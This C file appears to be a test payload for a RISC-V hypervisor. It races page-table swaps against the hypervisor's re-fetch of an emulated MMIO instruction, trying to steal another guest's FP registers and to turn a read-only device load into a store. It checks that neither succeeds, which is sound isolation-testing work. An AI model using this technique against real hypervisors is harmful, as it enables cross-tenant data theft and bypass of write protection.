/*
 * A thief of FP registers. The hypervisor fetches an instruction that it emulates a second time,
 * with its own load; this guest sees to it that it finds another one than the hart has executed. It
 * executes an integer access to a device through a translation that is out of date, and what its
 * page tables say by then is an FP access. A guest that has never used its FP registers must find
 * zero in them, not what a neighbour has there, and must not change the neighbour's. And what was a
 * load must not write to a device that the page tables let it read only.
 *
 * `role=victim` is that neighbour: it computes nothing and looks after its registers.
 */
#include "payload.h"

extern void fp_fill(uint64_t seed), fp_store(uint64_t registers[32]);
extern uint64_t fp_check(uint64_t seed);
/* Executes the page at `code` once, points *entry elsewhere and executes code + 8 without a fence.
 */
extern void thief_swap(uint64_t code, volatile uint64_t *entry, uint64_t value, uint64_t device);

#define SECRET     0x5ec2e70000000000UL
#define ALARM_HIGH 0x10100cUL /* of the real-time clock: keeps 32 bits */

/* At 0: return. At 8: an access of a0, then return. */
static uint8_t honest[PAGE] __attribute__((aligned(4096)));
static uint8_t changed[PAGE] __attribute__((aligned(4096)));

static void put_code(uint8_t *page, uint32_t access)
{
    uint32_t *words = (uint32_t *)page;
    words[0] = words[1] = words[3] = 0x00008067; /* ret */
    words[2] = access;
}

static void swap(uint32_t executed, uint32_t fetched)
{
    volatile uint64_t *entry = &page_leaves[WINDOW / PAGE % 512];
    put_code(honest, executed);
    put_code(changed, fetched);
    __asm__ volatile("fence.i");
    for (unsigned i = 0; i < 200; i++) {
        page_map(WINDOW, (uint64_t)honest, PTE_LEAF);
        thief_swap(WINDOW, entry, pte((uint64_t)changed, PTE_LEAF), ALARM_HIGH);
    }
}

static void victim(void)
{
    unsigned wrong = 0;
    csr_set(sstatus, SSTATUS_FS);
    fp_fill(SECRET);
    print("victim ready");
    for (uint64_t end = time_now() + argument_number("seconds", 10) * frequency; time_now() < end;)
        wrong += fp_check(SECRET) != 0;
    check(!wrong, "victim.registers", "changed in %u looks", wrong);
}

/* The other way round: `lw s1, 0(a0)` from a page that may only be read, of which a store is made.
 */
static void write_protected(uint32_t fetched, const char *name)
{
    volatile uint32_t *device = (volatile uint32_t *)ALARM_HIGH;
    volatile uint64_t *entry = &page_leaves[WINDOW / PAGE % 512];
    put_code(honest, 0x00052483);
    put_code(changed, fetched);
    __asm__ volatile("fence.i");
    *device = 7;
    page_map(WINDOW + PAGE, ALARM_HIGH - ALARM_HIGH % PAGE, PTE_LEAF & ~PTE_W);
    page_map(WINDOW, (uint64_t)honest, PTE_LEAF);
    uint64_t code = WINDOW, value = pte((uint64_t)changed, PTE_LEAF);
    register uint64_t a0 __asm__("a0") = WINDOW + PAGE + ALARM_HIGH % PAGE;
    register uint64_t s1 __asm__("s1") = 0;
    TRY(LIST("+r"(a0), "+r"(s1)), LIST("r"(code), "r"(entry), "r"(value)),
        "jalr ra, %2\n\tsd %4, 0(%3)\n\tjalr ra, 8(%2)");
    check(*device == 7 && local()->trap.scause == CAUSE_STORE_PAGE, name, "holds %u, scause %lu",
          *device, local()->trap.scause);
}

static void thief(void)
{
    uint64_t registers[32];
    unsigned stolen = 0, strange = 0;
    csr_clear(sstatus, SSTATUS_FS);
    wait_until(time_now() + frequency); /* the victim has had its turn */
    paging_on();
    swap(0x00b52023, 0x00052027); /* sw a1, 0(a0); fsw f0, 0(a0) */
    if (argument("write"))
        swap(0x00052583, 0x00052107);           /* lw a1, 0(a0); flw f2, 0(a0) */
    write_protected(0x00052023, "thief.store"); /* sw zero, 0(a0) */
    write_protected(0x0805202f, "thief.amo");   /* amoswap.w zero, zero, (a0) */
    paging_off();
    csr_set(sstatus, SSTATUS_FS);
    fp_store(registers);
    for (unsigned i = 0; i < 32; i++) {
        stolen += registers[i] >> 40 == SECRET >> 40;
        strange += registers[i] != 0;
    }
    check(!stolen && strange <= (argument("write") ? 1 : 0), "thief.registers",
          "%u of a neighbour, %u not zero: 0x%lx 0x%lx", stolen, strange, registers[0],
          registers[31]);
}

void payload_main(void)
{
    if (!isa_has("d"))
        skip("thief", "no D");
    else if (argument("role"))
        victim();
    else
        thief();
}
